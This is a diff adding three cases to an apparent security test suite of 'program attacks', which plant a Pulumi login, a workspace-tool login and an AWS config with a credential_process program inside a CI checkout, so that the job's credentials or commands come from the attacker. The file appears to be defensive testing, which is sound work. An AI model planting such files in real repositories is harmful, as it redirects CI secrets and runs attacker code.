@@ -72,6 +72,43 @@ export const programAttacks: readonly Attack[] = [
     env: ({ checkout }) => ({ PULUMI_BIN: join(checkout, "tools") }),
   },
   {
+    name: "a login to the author's backend, where the job keeps Pulumi's home in the checkout",
+    apply: (target) => {
+      const login = { current: target.attacker, accounts: { [target.attacker]: {} } };
+      target.file(".pulumi/credentials.json", JSON.stringify(login));
+    },
+    env: ({ checkout }) => ({ PULUMI_HOME: join(checkout, ".pulumi"), PULUMI_BACKEND_URL: "" }),
+  },
+  {
+    name: "a login to the author's service, where the job keeps its settings in the checkout",
+    apply: (target) => {
+      const login = { baseUrl: target.attacker, workspace: "acme", token: "theirs" };
+      const connections = { default: login, us: login, theirs: login };
+      target.file(".config/workspacectl/credentials.json", JSON.stringify({ connections }));
+    },
+    env: ({ checkout }) => ({
+      XDG_CONFIG_HOME: join(checkout, ".config"),
+      WORKSPACE_AUTOMATION_CREDENTIALS: "",
+      WORKSPACE_AUTOMATION_BASE_URL: "",
+    }),
+  },
+  {
+    name: "settings of a cloud that name a program, where the job keeps them in the checkout",
+    apply: (target) => {
+      target.program("tools/credentials");
+      const settings = `[default]\nregion = eu-west-1\ncredential_process = ${join(target.checkout, "tools/credentials")}\n`;
+      target.file(".aws/config", settings);
+    },
+    env: ({ checkout }) => ({
+      AWS_CONFIG_FILE: join(checkout, ".aws/config"),
+      AWS_SHARED_CREDENTIALS_FILE: join(checkout, ".aws/none"),
+      AWS_ACCESS_KEY_ID: "",
+      AWS_SECRET_ACCESS_KEY: "",
+      AWS_SESSION_TOKEN: "",
+      PULUMI_BACKEND_URL: "s3://acme-state?region=eu-west-1",
+    }),
+  },
+  {
     name: "a repository whose settings name programs",
     apply: (target) => {
       const settings = "[extensions]\ntheirs = theirs.py\n";
